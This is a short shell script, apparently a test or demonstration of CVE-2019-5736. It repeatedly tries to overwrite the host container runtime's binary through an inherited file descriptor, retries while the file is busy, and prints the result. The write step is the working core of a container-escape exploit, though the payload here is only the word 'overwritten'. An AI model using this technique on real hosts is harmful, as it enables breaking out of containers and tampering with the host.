# The second half of CVE-2019-5736. Descriptor 9 is the runtime's program, opened for reading through /proc/PID/exe. As soon as nobody executes it any
# more, root may open it once more, for writing. What becomes of that is printed.
n=0
while [ $n -lt 100 ]; do
	said=$( (echo overwritten >/proc/self/fd/9) 2>&1) && echo overwritten && exit
	case $said in
	*"Text file busy"*) sleep 0.05 ;;
	*) echo "$said" && exit ;;
	esac
	n=$((n + 1))
done
echo "still busy"
